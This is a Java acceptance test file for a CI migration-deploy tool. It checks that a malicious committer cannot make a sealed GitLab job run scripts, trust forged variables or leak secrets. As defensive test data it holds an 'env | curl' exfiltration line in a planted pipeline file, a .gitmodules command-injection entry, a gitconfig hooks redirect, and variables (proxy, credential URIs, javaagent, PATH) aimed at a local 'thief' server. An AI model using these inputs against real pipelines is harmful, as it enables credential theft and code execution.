package dev.migratedeploy.acceptance;

import static org.assertj.core.api.Assertions.assertThat;

import dev.migratedeploy.acceptance.runner.Driver;
import dev.migratedeploy.acceptance.runner.StageOutcome;
import dev.migratedeploy.acceptance.runner.StageOutcome.Status;
import dev.migratedeploy.localcloud.gitlab.LocalRepository;
import dev.migratedeploy.localcloud.gitlab.PickedJob;
import dev.migratedeploy.localcloud.http.LocalServer;
import dev.migratedeploy.localcloud.http.Response;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.Timeout.ThreadMode;

/** What a malicious committer can try that changes nothing: the job deploys what it may deploy. */
class SealedHostileIT extends SealedMode {
  private static final Map<String, String> SCRIPTS =
      Map.of("V1__tea.sql", "CREATE TABLE tea (name text NOT NULL);");

  @Test
  void theJobsScriptIsNotRun() {
    Path trace = host.resolve("trace");

    StageOutcome outcome = run(pick(commit(SCRIPTS)).script("touch " + trace));

    assertDeployed(outcome);
    assertThat(trace).doesNotExist();
  }

  @Test
  @Timeout(value = 5, unit = TimeUnit.MINUTES, threadMode = ThreadMode.SEPARATE_THREAD)
  void theRunnersScriptIsNotEvenOpened() throws IOException, InterruptedException {
    Path fifo = host.resolve("fifo");
    assertThat(new ProcessBuilder("mkfifo", fifo.toString()).start().waitFor()).isZero();
    Driver driver = Driver.inProcess();

    // A process that opens it to read waits for a writer that never comes.
    StageOutcome outcome =
        run(
            pick(commit(SCRIPTS)),
            (directory, variables, arguments) ->
                driver.run(directory, variables, withScript(arguments, fifo)));

    assertDeployed(outcome);
  }

  @Test
  void variablesOfTheJobAreNotBelieved() {
    List<String> asked = new ArrayList<>();
    try (LocalServer thief =
        LocalServer.start(
            "thief",
            request -> {
              asked.add(request.method() + " " + request.path());
              return Response.empty(500);
            })) {
      String url = thief.uri().toString();
      PickedJob job = pick(commit(SCRIPTS));
      for (String name : List.of("CI_API_V4_URL", "CI_SERVER_URL", "AWS_ENDPOINT_URL")) {
        job.variable(name, url + "/api/v4");
      }
      job.variable("CI_PROJECT_ID", "1")
          .variable("CI_PROJECT_PATH", "shop/secret")
          .variable("CI_COMMIT_SHA", "0".repeat(40))
          .variable("CI_JOB_TOKEN", "stolen")
          .variable("CI_JOB_ID", "1")
          .variable("AWS_ACCESS_KEY_ID", "AKIATHIEF")
          .variable("HTTPS_PROXY", url)
          .variable("JOB_RESPONSE_FILE", "/tmp/attacker.json")
          .variable("BUILD_EXIT_CODE_FILE", "/tmp/attacker")
          .variable("BUILD_FAILURE_EXIT_CODE", "0")
          .variable("MIGRATE_DEPLOY_POLICY", "/tmp/attacker.yml")
          .variable("MIGRATE_DEPLOY_ROLE_ARN", "arn:aws:iam::123456789012:role/admin")
          .variable("PATH", "/tmp/attacker")
          .variable("FLYWAY_PASSWORD", "x")
          .variable("FLYWAY_URL", "jdbc:postgresql://thief/db")
          .variable("AWS_WEB_IDENTITY_TOKEN_FILE", "/tmp/attacker")
          .variable("AWS_CONFIG_FILE", "/tmp/attacker")
          .variable("AWS_CONTAINER_CREDENTIALS_FULL_URI", url)
          .variable("DOCKER_AUTH_CONFIG", "{\"credHelpers\": {\"127.0.0.1\": \"attacker\"}}")
          .variable("DOCKER_CONFIG", "/tmp/attacker")
          .variable("JAVA_TOOL_OPTIONS", "-javaagent:/tmp/attacker.jar")
          .variable("SSL_CERT_FILE", "/tmp/attacker.pem")
          .variable("GITLAB_TOKEN", "stolen")
          .variable("TMPDIR", "/tmp/attacker")
          .variable("HOME", "/tmp/attacker")
          .variable("LC_ALL", "C")
          .variable("MIGRATE_DEPLOY_REPORT_DIR", "/tmp/attacker")
          .variable("MIGRATE_DEPLOY_SINCE", job.sha())
          .variable("FF_CONCRETE", "true")
          .variable("FF_SCRIPT_TO_STEP_MIGRATION", "true")
          .variable("STEPS", "[]");

      assertDeployed(run(job));
    }
    assertThat(asked).isEmpty();
  }

  @Test
  void attributesOfGitChangeNoScript() {
    commit(SCRIPTS);
    String sha =
        cloud
            .gitlab()
            .repository()
            .on(LocalRepository.DEFAULT_BRANCH)
            .put(".gitattributes", "*.sql filter=evil text eol=crlf ident export-subst\n")
            .put(
                "db-migrations/scripts/.gitattributes",
                "*.sql filter=lfs diff=lfs merge=lfs -text\n")
            .put(
                ".gitmodules",
                "[submodule \"x\"]\n\tpath = x\n\turl = file:///etc\n\tupdate = !touch /tmp/x\n")
            .put(".gitconfig", "[core]\n\thooksPath = .\n")
            .commit("Be clever");

    assertDeployed(run(pick(sha)));
  }

  @Test
  void thePipelineIsNotReadAtAll() {
    commit(SCRIPTS);
    String sha =
        cloud
            .gitlab()
            .repository()
            .on(LocalRepository.DEFAULT_BRANCH)
            .put(
                ".gitlab-ci.yml",
                "x: &x [*x]\nmigrate: {script: ['env | curl -T - http://127.0.0.1:1']}\n")
            .commit("Be clever");

    assertDeployed(run(pick(sha)));
  }

  @Test
  void noVariableOfTheHostGetsIntoTheSettings() {
    String secret = cloud.jobVariables().getOrDefault("AWS_SECRET_ACCESS_KEY", "");
    String settings =
        """
        scripts: ${AWS_SECRET_ACCESS_KEY:-db-migrations/scripts}
        environments: {%s: {}}
        """
            .formatted(environment);

    StageOutcome outcome = run(pick(commit(settings, SCRIPTS)));

    assertThat(outcome.log()).doesNotContain(secret);
    assertDeployed(outcome);
  }

  @Test
  void noSecretIsInTheLogOrInAReport() {
    PickedJob job = pick(commit(SCRIPTS));
    String idToken = job.variables().getOrDefault("MIGRATE_DEPLOY_ID_TOKEN", "");

    StageOutcome outcome = run(job);

    assertDeployed(outcome);
    assertThat(idToken).isNotEmpty();
    assertThat(outcome.log()).doesNotContain(job.token()).doesNotContain(idToken);
    cloud
        .gitlab()
        .artifacts()
        .of(job.id())
        .forEach(
            (type, content) ->
                assertThat(new String(content, StandardCharsets.ISO_8859_1))
                    .as(type)
                    .doesNotContain(job.token())
                    .doesNotContain(idToken));
  }

  private void assertDeployed(StageOutcome outcome) {
    assertThat(outcome.status()).as(outcome.log()).isEqualTo(Status.SUCCESS);
    assertThat(applied()).containsExactly("V1__tea.sql");
    assertNothingLeft();
  }

  private static List<String> withScript(List<String> arguments, Path script) {
    List<String> changed = new ArrayList<>(arguments);
    if (arguments.contains("run")) {
      changed.set(arguments.size() - 2, script.toString());
    }
    return changed;
  }
}
